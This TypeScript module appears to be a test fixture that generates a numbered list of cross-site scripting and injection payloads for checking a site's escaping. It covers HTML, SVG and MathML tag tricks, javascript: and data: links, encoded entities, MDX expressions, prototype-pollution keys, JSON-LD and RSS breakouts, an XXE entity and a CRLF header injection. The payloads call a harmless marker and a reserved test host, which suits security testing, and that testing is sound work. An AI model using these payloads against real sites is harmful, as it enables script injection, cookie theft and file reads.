/** Texts that run where they are not escaped: `RUN` calls a marker, `HOST` may be asked by nothing. */

export const PAYLOAD_HOST = 'untrusted.test'

/** The function that payloads call with their number; a test defines it in the page. */
export const MARKER = 'ran'

const HTML = [
  '<script>RUN</script>',
  '</title><script>RUN</script>',
  '<ScRiPt>RUN</sCrIpT>',
  '<<script>RUN//<</script>',
  '<scr<script>ipt>RUN</scr</script>ipt>',
  '<script src=//HOST></script>',
  '<img src=x onerror=RUN>',
  '<img src=//HOST>',
  '<body onload=RUN>',
  '<iframe srcdoc="<script>RUN</script>">',
  '<object data="data:text/html,<script>RUN</script>">',
  '<details open ontoggle=RUN>',
  '<link rel=stylesheet href=//HOST onerror=RUN>',
  '<meta http-equiv=refresh content="0;url=//HOST">',
  '<base href=//HOST/>',
  '<noscript><p title="</noscript><img src=x onerror=RUN>">',
  '<style>@import"//HOST";</style>',
] as const

const ATTRIBUTES = [
  '" autofocus onfocus="RUN',
  '"><script>RUN</script>',
  'x onmouseover=RUN',
  'x" style="animation-name:x" onanimationstart="RUN',
  '" http-equiv="refresh" content="0;url=//HOST',
  '--><script>RUN</script>',
  '<!--app--><script>RUN</script>',
  '\\"><script>RUN</script>',
  '\\u0022><img src=x onerror=RUN>',
] as const

const SVG = [
  '<svg onload=RUN>',
  '<svg><script href="data:,RUN"></script></svg>',
  '<svg><a xlink:href="javascript:RUN"><text>x</text></a></svg>',
  '<svg><animate onbegin=RUN attributeName=x dur=1s>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=RUN>#x">',
  '<svg><foreignObject><img src=x onerror=RUN></foreignObject>',
  '<svg></p><style><a id="</style><img src=x onerror=RUN>">',
  '<svg><![CDATA[><img src=x onerror=RUN>]]>',
] as const

const MATHML = [
  '<math><script>RUN</script></math>',
  '<math><annotation-xml encoding="text/html"><img src=x onerror=RUN>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=RUN>',
] as const

const JAVASCRIPT_LINKS = [
  'javascript:RUN',
  'JaVaScRiPt:RUN',
  ' javascript:RUN',
  'java\tscript:RUN',
  'javascript&colon;RUN',
  '&#106;avascript:RUN',
  'https:javascript:RUN',
  '[x](javascript:RUN)',
  '[x](java&Tab;script:RUN)',
  '[x][y]\n\n[y]: javascript:RUN',
  '![x](javascript:RUN)',
  '<a href="javascript:RUN">x</a>',
  '<form action=javascript:RUN><button>x',
  '<iframe src=javascript:RUN>',
] as const

const DATA_LINKS = [
  'data:text/html,<script>RUN</script>',
  'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="RUN"/>',
  '[x](data:text/html,%3Cscript%3ERUN%3C/script%3E)',
  '![x](data:image/svg+xml,%3Csvg%20onload=RUN%3E)',
  'blob:https://HOST/RUN',
  '[x](//HOST/RUN)',
  '[x](/\\HOST/RUN)',
  '[x](file:///etc/passwd)',
] as const

const ADDRESSES = [
  'https://a:RUN',
  'https://[RUN]',
  'https://RUN@a.test',
  'https://a.test#RUN',
  'https://a.test\\RUN',
  'https://a.test/"onerror="RUN',
  'https://a.test/<script>RUN</script>',
  '[x](https://a:RUN)',
  'x@a.test?bcc=RUN',
  'x"onfocus=RUN//@a.test',
  '"><script>RUN</script>@a.test',
] as const

const ENTITIES = [
  '&lt;script&gt;RUN&lt;/script&gt;',
  '&lt&lt;img src=x onerror=RUN&gt',
  '\\u003cscript\\u003eRUN\\u003c/script\\u003e',
  '\uFF1Cscript\uFF1ERUN\uFF1C/script\uFF1E',
  '+ADw-script+AD4-RUN+ADw-/script+AD4-',
  '\u2028RUN\u2029',
  '\u202E<script>RUN</script>',
  '\uFEFF<script>RUN</script>',
] as const

const MDX = [
  '{RUN}',
  '{[].constructor.constructor("RUN")()}',
  '${RUN}',
  '{{constructor.constructor("RUN")()}}',
  '<%= RUN %>',
  'import x from "//HOST/x.js"',
  "import 'data:text/javascript,RUN'",
  'export { RUN as x } from "//HOST"',
  '<Tip>{RUN}</Tip>',
  '<Tip dangerouslySetInnerHTML={{__html:"<img src=x onerror=RUN>"}}/>',
  '<Tip {...{onClick:()=>RUN}}>x</Tip>',
  '<Tip><img src=x onerror=RUN/></Tip>',
  '<RecipeCard id={RUN} />',
  '<RecipeCard id="1" onLoad="RUN" />',
  '<__proto__>RUN</__proto__>',
  '<svg:script>RUN</svg:script>',
] as const

const PROTOTYPE_KEYS = [
  '__proto__',
  'constructor',
  'toString',
  '__proto__[polluted]=RUN',
  '{"__proto__":{"polluted":"RUN"}}',
  '[__proto__](__proto__)',
] as const

const JSON_LD_BREAKOUTS = [
  '</script><script>RUN</script>',
  '<!--<script>RUN</script>',
  ']]></script><script>RUN</script>',
  '"}]}</script><script>RUN</script>',
  '"}]};RUN;//',
  '"@type":"Thing","url":"javascript:RUN"',
] as const

const FEED_BREAKOUTS = [
  ']]><script>RUN</script>',
  '</content:encoded><script>RUN</script>',
  '</title></item></channel></rss><script>RUN</script>',
  '</loc></url></urlset><script>RUN</script>',
  '<?xml-stylesheet href="//HOST/x.xsl"?>',
  '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "//HOST">]>&e;',
  '<x:script xmlns:x="http://www.w3.org/1999/xhtml">RUN</x:script>',
  '\nUser-agent: *\nDisallow: /\n# RUN',
  '\r\nSet-Cookie: x=RUN\r\n\r\n<script>RUN</script>',
] as const

const FAMILIES = [
  ['html', HTML],
  ['attributes', ATTRIBUTES],
  ['svg', SVG],
  ['mathml', MATHML],
  ['javascript links', JAVASCRIPT_LINKS],
  ['data links', DATA_LINKS],
  ['entities', ENTITIES],
  ['mdx', MDX],
  ['prototype keys', PROTOTYPE_KEYS],
  ['JSON-LD breakouts', JSON_LD_BREAKOUTS],
  ['addresses', ADDRESSES],
  ['feed and sitemap breakouts', FEED_BREAKOUTS],
] as const

export type Family = (typeof FAMILIES)[number][0]

export interface Payload {
  /** What the payload calls `ran` with, and `/id` at its host. */
  id: number
  family: Family
  text: string
}

export const PAYLOADS: readonly Payload[] = FAMILIES.flatMap(([family, templates]) =>
  templates.map((template) => ({ family, template })),
).map(({ family, template }, id) => ({ id, family, text: numbered(template, id) }))

function numbered(template: string, id: number): string {
  return template.replaceAll('RUN', `${MARKER}(${id})`).replaceAll('HOST', `${PAYLOAD_HOST}/${id}`)
}
